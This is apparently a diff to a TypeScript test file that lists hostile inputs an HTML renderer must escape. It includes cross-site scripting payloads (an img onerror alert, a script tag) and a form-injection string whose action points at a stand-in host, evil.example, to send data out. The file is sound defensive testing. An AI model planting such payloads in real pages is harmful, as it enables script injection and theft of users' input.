@@ -10,7 +10,11 @@ interface HostileText {
 }
 
 const texts: HostileText[] = [
-  { name: 'HTML', text: '<img src=x onerror=alert(1)><script>alert(1)</script>', never: /<(img src=x|script)[ >]/i },
+  {
+    name: 'HTML',
+    text: '<img src=x onerror=alert(1)><script>alert(1)</script>',
+    never: /<img src=x|<script(?! src="\/keys\.js")[ >]/i,
+  },
   {
     name: 'a form in HTML',
     text: '</textarea></p><form action=//evil.example><input name=p>',
